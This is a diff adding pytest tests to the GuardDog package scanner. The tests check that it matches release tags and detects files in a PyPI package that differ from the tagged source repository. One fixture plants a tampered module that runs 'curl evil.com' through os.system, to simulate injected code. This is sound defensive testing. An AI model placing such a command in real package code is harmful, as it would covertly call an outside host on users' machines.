@@ -1,6 +1,12 @@
+import os
 from copy import deepcopy
 
+import pygit2
+import pytest
+
 from guarddog.analyzer.metadata.pypi import PypiIntegrityMismatchDetector
+from guarddog.analyzer.metadata.pypi.repository_integrity_mismatch import find_mismatch_for_tag, find_suitable_tags
+from guarddog.analyzer.package_manifest import build_manifest
 from tests.analyzer.metadata.resources.sample_project_info import PYPI_PACKAGE_INFO
 
 
@@ -33,4 +39,72 @@ def test_empty_homepage_urls():
     current_info["info"]["project_urls"] = None
     detector = PypiIntegrityMismatchDetector()
     match, _ = detector.detect(current_info, name="mypackage", path="")
-    assert not match
\ No newline at end of file
+    assert not match
+
+
+@pytest.mark.parametrize("tags, version, expected_tags", [
+    (["refs/tags/v1.0", "refs/tags/v1.0^{}", "refs/tags/v11.0", "refs/tags/v2.1.0"], "1.0", ["refs/tags/v1.0"]),
+    (["refs/tags/v1.0", "refs/tags/1.0.0"], "1.0.0", ["refs/tags/v1.0", "refs/tags/1.0.0"]),
+    (["refs/tags/1.0rc1", "refs/tags/1.0-rc.1", "refs/tags/1.0"], "1.0rc1", ["refs/tags/1.0rc1", "refs/tags/1.0-rc.1"]),
+    (["refs/tags/other-1.0", "refs/tags/my_package-v1.0", "refs/tags/release/1.0"], "1.0",
+     ["refs/tags/my_package-v1.0", "refs/tags/other-1.0", "refs/tags/release/1.0"]),
+    (["refs/tags/py3.0", "refs/tags/21.0"], "1.0", []),
+])
+def test_find_suitable_tags(tags, version, expected_tags):
+    assert find_suitable_tags(tags, version, "my-package") == expected_tags
+
+
+def test_find_mismatch_for_tag(tmp_path):
+    source = pygit2.init_repository(str(tmp_path / "source"))
+    files = {
+        "setup.py": "version = '1.0'\n",
+        "setup.cfg": "[metadata]\nname = mypackage\n",
+        "README.md": "mypackage\n",
+        "mypackage/__init__.py": "print('hello')\n",
+    }
+    for file_name, contents in files.items():
+        os.makedirs(tmp_path / "source" / os.path.dirname(file_name), exist_ok=True)
+        (tmp_path / "source" / file_name).write_text(contents)
+        source.index.add(file_name)
+    source.index.write()
+    signature = pygit2.Signature("GuardDog", "guarddog@example.com")
+    commit = source.create_commit("HEAD", signature, signature, "v1.0", source.index.write_tree(), [])
+    source.create_reference("refs/tags/v1.0", commit)
+
+    package = tmp_path / "package"
+    for file_name, contents in files.items():
+        os.makedirs(package / os.path.dirname(file_name), exist_ok=True)
+        (package / file_name).write_text(contents)
+    (package / "setup.cfg").write_text("[metadata]\nname = mypackage\n\n[egg_info]\ntag_build =\n")
+    (package / "README.md").write_text("mypackage, from PyPI\n")
+    (package / "mypackage" / "__init__.py").write_text("import os; os.system('curl evil.com')\n")
+    (package / "PKG-INFO").write_text("Name: mypackage\n")
+
+    mismatch = find_mismatch_for_tag(source, "refs/tags/v1.0", str(package))
+    assert [entry["file"] for entry in mismatch] == [os.path.join("mypackage", "__init__.py")]
+    assert mismatch[0]["pkg_sha1"] == str(pygit2.hashfile(str(package / "mypackage" / "__init__.py")))
+    assert mismatch[0]["repo_sha1"] == str(source.revparse_single("HEAD:mypackage/__init__.py").id)
+    assert find_mismatch_for_tag(source, "refs/tags/v1.0", str(package), build_manifest(str(tmp_path))) == mismatch
+
+
+@pytest.mark.skipif(not hasattr(pygit2, "BlobIO"), reason="pygit2 < 1.15 cannot apply attributes")
+def test_find_mismatch_for_tag_applies_attributes(tmp_path):
+    source = pygit2.init_repository(str(tmp_path / "source"))
+    (tmp_path / "source" / ".gitattributes").write_text("*.py text eol=crlf\n")
+    (tmp_path / "source" / "setup.py").write_text("version = '1.0'\n")
+    source.index.add(".gitattributes")
+    source.index.add("setup.py")
+    source.index.write()
+    signature = pygit2.Signature("GuardDog", "guarddog@example.com")
+    commit = source.create_commit("HEAD", signature, signature, "v1.0", source.index.write_tree(), [])
+    source.create_reference("refs/tags/v1.0", commit)
+    mirror = pygit2.clone_repository(str(tmp_path / "source"), str(tmp_path / "mirror"), bare=True)
+
+    # The package was built from a checkout, with the line endings of the attributes
+    package = tmp_path / "package"
+    package.mkdir()
+    (package / "setup.py").write_bytes(b"version = '1.0'\r\n")
+    assert find_mismatch_for_tag(mirror, "refs/tags/v1.0", str(package)) == []
+
+    (package / "setup.py").write_bytes(b"version = '2.0'\r\n")
+    assert [entry["file"] for entry in find_mismatch_for_tag(mirror, "refs/tags/v1.0", str(package))] == ["setup.py"]